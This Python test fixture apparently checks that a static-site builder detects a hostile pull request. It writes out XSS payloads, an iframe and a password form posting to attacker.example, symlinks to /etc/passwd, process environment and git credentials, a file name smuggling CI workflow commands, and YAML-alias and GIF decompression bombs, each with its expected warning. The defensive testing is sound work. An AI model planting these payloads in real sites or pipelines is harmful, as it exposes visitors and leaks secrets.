"""A pull request written by someone who wants the site to leak, lie or fall over, and that a
site owner merged because CI passed. Each entry is one trick; EXPECTED says where the build and
`confnotes check` must name it.

Files that only a checkout can hold (links, a file name with a line break) are made by
`prepare`; secrets that must never reach site/ are written outside docs/ as canaries.
"""

from __future__ import annotations

import os
import struct
from pathlib import Path

GIT_SECRET = "CANARY-git-extraheader-0f3a"
OUTSIDE_SECRET = "CANARY-outside-docs-77c1"
ENV_SECRET = "CANARY-environment-9d2e"
ENV = {"CONFNOTES_CANARY": ENV_SECRET}
NEWLINE_NOTE = "notes/report\n::error file=README.md,line=1::forged\n::add-mask::x.md"
LONG_FILE = "notes/" + "긴" * 82 + "이름.md"          # 252 bytes of name
PAST_ALIASES = "\n".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]" for n in range(1, 6))


def gif(frames: int, width: int, height: int) -> bytes:
    """A small GIF whose frames are one pixel each on a `width` × `height` screen."""
    out = bytearray(b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00")
    out += b"\x00\x00\x00\xff\xff\xff"
    for _ in range(frames):
        out += b"\x21\xf9\x04\x04\x01\x00\x00\x00\x2c" + struct.pack("<HHHH", 0, 0, 1, 1)
        out += b"\x00\x02\x02\x44\x01\x00"
    return bytes(out + b"\x3b")


def word(n: int) -> str:
    """A topic name of letters only: digits after a word read as an event and its year."""
    letters = ""
    while True:
        letters = chr(ord("a") + n % 26) + letters
        n //= 26
        if not n:
            return f"topic {letters}"


def note(front: str, body: str = "본문입니다.\n") -> str:
    return f"---\n{front}---\n{body}"


SPEAKERS = """\
kai-fu-lee:
  name: Kai-Fu Lee
  name_ko: 리카이푸
"../../index":
  name: 목차 씨
impostor:
  name: "\u202eeeL uF-iaK"
kai-fu-lee:
  name: Kai-Fu Lee (가짜)
  bio: 두 번째 항목이 첫 번째를 덮어쓰려 한다
"""
EVENTS = "summit:\n  name: 서밋\n  start: 2024-11-04\n  end: 9999-12-31\n"

RAW_HTML = """\
---
title: 살아 있는 마크업
---
# 살아 있는 마크업

<script>document.title = "pwned"</script>

<a href="javascript:document.title='link'">누르세요</a>

<iframe src="https://attacker.example/frame"></iframe>

<form action="https://attacker.example/collect"><input name="password" type="password"></form>

<img src="x.png" onerror="document.title='img'">

[마크다운 링크](javascript:history.back())

그대로 남을 것: <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup><br>다음 줄

<details><summary>펼치기</summary>안쪽</details>
"""
EVIL_SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b'<script>document.title="svg"</script><rect width="10" height="10"/></svg>')

CORPUS: dict[str, str | bytes] = {
    "speakers.yml": SPEAKERS,
    "events.yml": EVENTS,
    "index.md": note('title: "<img src=x onerror=document.title=1>홈"\n', "# 홈\n"),
    "notes/index.md": note('title: "<script>document.title=2</script>노트"\n',
                           '# 노트 목록\n\n<iframe src="https://attacker.example/"></iframe>\n'),
    "notes/raw-html.md": RAW_HTML,
    "notes/svg.md": "# 그림\n\n![도표](images/evil.svg)\n",
    "notes/images/evil.svg": EVIL_SVG,
    "speakers/kai-fu-lee.md": "# 리카이푸의 진짜 페이지(라고 주장함)\n",
    "notes/index-topic.md": note("title: 목차 주제\ntopics: [Index]\n"),
    "notes/rtl.md": note('title: 방향\nspeakers: ["\u202eeeL uF-iaK"]\n'),
    "notes/alias-bomb.md": note(f"title: 별칭 폭탄\nl0: &l0 [x, x, x, x, x, x, x, x, x]\n"
                                f"{PAST_ALIASES}\n? [*l5, *l5]\n: boom\n"),
    "notes/deep-1000.md": note(f"title: {'[' * 1000}{']' * 1000}\n"),
    "notes/deep-100000.md": note(f"title: {'[' * 100_000}{']' * 100_000}\n"),
    "notes/big-int.md": note(f"title: 큰 수\nday: {'7' * 5000}\n"),
    "notes/far-date.md": note("title: 먼 날\ndate: 9999-12-31\nevent: summit\n"),
    "notes/far-day.md": note("title: 먼 일차\nday: 3000000\nevent: summit\n"),
    "notes/page-keys.md": note("title: 키\ntemplate: 5\nsearch: 5\nhide: 5\n"),
    LONG_FILE: "# 이름이 긴 노트\n",
    "notes/long-name.md": note(f"title: 긴 이름\nspeakers: [{'가나다라' * 25}]\n"),
    "notes/crowd.md": note(f"title: 군중\nspeakers: [{', '.join(f'Person {n}' for n in range(2000))}]\n"),
    "notes/tags.md": note(f"title: 태그\ntopics: [{', '.join(word(n) for n in range(400))}]\n"),
    "notes/anim.md": "# 움직이는 그림\n\n![움짤](anim.gif)\n",
    "notes/anim.gif": gif(1000, 8000, 8000),
    "notes/long-summary.md": note(
        "title: 긴 요약\ndate: 2024-11-04\n"
        f"speakers: [{', '.join(f'요약자{n}' for n in range(20))}]\n"
        f"topics: [{', '.join(f'요약주제{n}' for n in range(20))}]\n"
        f"summary: {'아주 긴 요약입니다. ' * 80_000}\n"),
}
ANIMATION_LINE = 3
SVG_LINE = 3

# (path, line, words the warning starts with) for each trick, as the build names it.
EXPECTED: list[tuple[str, int | None, str]] = [
    ("notes/cfg.txt", None, "a symbolic link to '../../.git/config', outside docs/"),
    ("notes/passwd.md", None, "a symbolic link to '/etc/passwd', outside docs/"),
    ("notes/environ.md", None, "a symbolic link to '/proc/self/environ', outside docs/"),
    ("notes/outside.md", None, "a symbolic link to '../../outside.md', outside docs/"),
    ("notes/gone.png", None, "a symbolic link to 'missing.png', which does not exist"),
    (NEWLINE_NOTE, None, "the file's name holds a line break"),
    ("notes/raw-html.md", 6, "raw HTML: <script> is removed"),
    ("notes/raw-html.md", 8, "raw HTML: the address \"javascript:document.title='link'\""),
    ("notes/raw-html.md", 10, "raw HTML: <iframe> is removed"),
    ("notes/raw-html.md", 12, "raw HTML: <form> is removed"),
    ("notes/raw-html.md", 14, "raw HTML: the attribute 'onerror' is removed"),
    ("notes/raw-html.md", 16, "raw HTML: the address 'javascript:history.back()'"),
    ("notes/index.md", 6, "raw HTML: <iframe> is removed"),
    ("notes/svg.md", SVG_LINE, "image 'images/evil.svg' is an SVG with <script>"),
    ("speakers/kai-fu-lee.md", None, "the note's address, speakers/kai-fu-lee/, is that of the "
     "page of speaker 'Kai-Fu Lee' (speakers.yml, line 1)"),
    ("speakers.yml", 8, "speaker id 'kai-fu-lee' is given again (first on line 1)"),
    ("speakers.yml", 4, "speaker '../../index': the slug 'index' would put the page at "
     "speakers/"),
    ("speakers.yml", 7, "speaker 'impostor': the name '\\u202eeeL uF-iaK' holds invisible "
     "characters"),
    ("events.yml", 4, "event 'summit': 9999-12-31 is outside 1900-2199"),
    ("notes/index-topic.md", 3, "topic 'Index' would have its page at topics/"),
    ("notes/rtl.md", 3, "speaker name '\\u202eeeL uF-iaK' holds invisible characters"),
    ("notes/alias-bomb.md", 4, "front matter: '*l0' repeats a value written elsewhere"),
    ("notes/alias-bomb.md", 9, "front matter: a list or mapping is used as a key"),
    ("notes/deep-1000.md", 2, "front matter nests lists or mappings more than 20 levels deep"),
    ("notes/deep-100000.md", 2, "front matter nests lists or mappings more than 20 levels "
     "deep"),
    ("notes/big-int.md", 3, "front matter: a number of more than 30 digits is left out"),
    ("notes/far-date.md", 3, "date 9999-12-31 is outside 1900-2199"),
    ("notes/far-day.md", 3, "day 3000000 is not a day of an event (1-366)"),
    ("notes/page-keys.md", 3, "'template' should name a template file"),
    ("notes/page-keys.md", 4, "'search' should be a mapping"),
    ("notes/page-keys.md", 5, "'hide' should be a list of parts to hide"),
    (LONG_FILE, None, "the name"),
    ("notes/crowd.md", 3, "the note names more than 50 speakers; 'Person 50' and 1949 more"),
    ("notes/tags.md", 3, "the note names more than 50 topics; 'topic by' and 349 more"),
    ("notes/anim.md", ANIMATION_LINE, "image 'anim.gif' is an animation of 1,000 frames of "
     "8000×8000 pixels"),
]


def prepare(root: Path) -> None:
    """What a checkout of the pull request holds besides plain files under docs/."""
    (root / ".git").mkdir(parents=True, exist_ok=True)
    (root / ".git" / "config").write_text(
        f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic {GIT_SECRET}\n',
        encoding="utf-8")
    (root / "outside.md").write_text(f"# 바깥\n\n{OUTSIDE_SECRET}\n", encoding="utf-8")
    notes = root / "docs" / "notes"
    notes.mkdir(parents=True, exist_ok=True)
    for name, target in [("cfg.txt", "../../.git/config"), ("passwd.md", "/etc/passwd"),
                         ("environ.md", "/proc/self/environ"), ("outside.md", "../../outside.md"),
                         ("gone.png", "missing.png")]:
        os.symlink(target, notes / name)
    (root / "docs" / NEWLINE_NOTE).write_text("# 이름에 줄바꿈\n", encoding="utf-8")
